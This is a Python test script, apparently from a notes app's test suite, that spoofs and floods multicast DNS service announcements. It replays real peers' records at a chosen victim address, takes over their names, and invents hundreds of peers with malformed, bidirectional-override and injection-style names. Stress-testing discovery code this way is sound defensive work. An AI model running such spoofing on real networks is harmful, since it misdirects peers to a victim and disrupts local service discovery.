"""Whoever lies by multicast DNS: `python -m tests.net.rogue OWN_ADDRESS VICTIM SECONDS`; prints what was sent as JSON.

First it listens who is there. Then it says again, as fast as it may, what others said of themselves but at the victim's
address; takes their names for itself; and makes up hundreds of people, with odd names, ports and records.
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys
import time

import msgspec
from zeroconf import ServiceBrowser, ServiceInfo, ServiceStateChange, Zeroconf
from zeroconf._dns import DNSAddress, DNSPointer, DNSService, DNSText
from zeroconf._protocol.outgoing import DNSOutgoing

SERVICE = "_notesapp._udp.local."
RESPONSE, IN, UNIQUE = 0x8400, 1, 0x8001
A, PTR, TXT, SRV = 1, 12, 16, 33
ODD = ("\u202egnp.exe", "Bo\nAna has removed you", "\0", "x" * 200, "<b>Bo</b>", " ", "Bo", "\u2066\u2069", "%1")


def strings(pairs: dict[bytes, bytes]) -> bytes:
    """A TXT record's data."""
    return b"".join(bytes([len(it)]) + it for it in (key + b"=" + value for key, value in pairs.items()))


def card(name: str) -> bytes:
    """What a guest shows of himself."""
    return msgspec.msgpack.encode([os.urandom(16), name, 3])[:200]


def said(name: str, host: str, port: int, text: bytes) -> list[bytes]:
    """Packets that announce one instance."""
    out, server = DNSOutgoing(RESPONSE), f"h{os.urandom(4).hex()}.local."
    out.add_answer_at_time(DNSPointer(SERVICE, PTR, IN, 4_500, name), 0)
    out.add_answer_at_time(DNSService(name, SRV, UNIQUE, 120, 0, 0, port, server), 0)
    out.add_answer_at_time(DNSText(name, TXT, UNIQUE, 4_500, text), 0)
    out.add_answer_at_time(DNSAddress(server, A, UNIQUE, 120, socket.inet_aton(host)), 0)
    return out.packets()


def there(own: str) -> list[ServiceInfo]:
    """Who announces himself here."""
    found: list[ServiceInfo] = []
    zeroconf = Zeroconf(interfaces=[own])

    def heard(zeroconf: Zeroconf, service_type: str, name: str, state_change: ServiceStateChange) -> None:
        info = zeroconf.get_service_info(service_type, name)
        if info is not None:
            found.append(info)

    ServiceBrowser(zeroconf, SERVICE, handlers=[heard])
    until = time.monotonic() + 4
    while time.monotonic() < until and len(found) < 2:
        time.sleep(0.1)
    zeroconf.close()
    return found


def lies(dice: random.Random, victim: str, others: list[ServiceInfo], number: int) -> list[bytes]:
    """What is said next."""
    text = {b"v": b"1", b"n": os.urandom(16), b"t0": os.urandom(128)}
    name, host, port = f"{os.urandom(8).hex()}.{SERVICE}", f"10.77.0.{dice.randrange(100, 250)}", 45_654
    kind = number % 6
    if kind == 0 and others:
        return said(name, victim, 9_999, dice.choice(others).text)
    if kind == 1 and others:
        return said(dice.choice(others).name, victim, 9_999, strings(text))
    if kind == 2:
        text[b"c"] = card(dice.choice(ODD))
    elif kind == 3:
        return said(name, host, dice.choice([0, 53, 65_535]), b"".join(b"\xff" + bytes(255) for _ in range(28)))
    elif kind == 4:
        name = f"{dice.choice(ODD)[:40]}{number}.{SERVICE}"
    else:
        text[b"c"] = card(f"Rogue {number}")
    return said(name, host, port, strings(text))


def main(own: str, victim: str, seconds: float) -> None:
    """Lies for so long."""
    others = there(own)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", 5353))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, struct.pack("b", 1))
    dice, number, until = random.Random(5), 0, time.monotonic() + seconds
    while time.monotonic() < until:
        for packet in lies(dice, victim, others, number):
            sock.sendto(packet, ("224.0.0.251", 5353))
        number += 1
        time.sleep(0.001)
    print(json.dumps({"lies": number, "others": [it.name for it in others]}))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
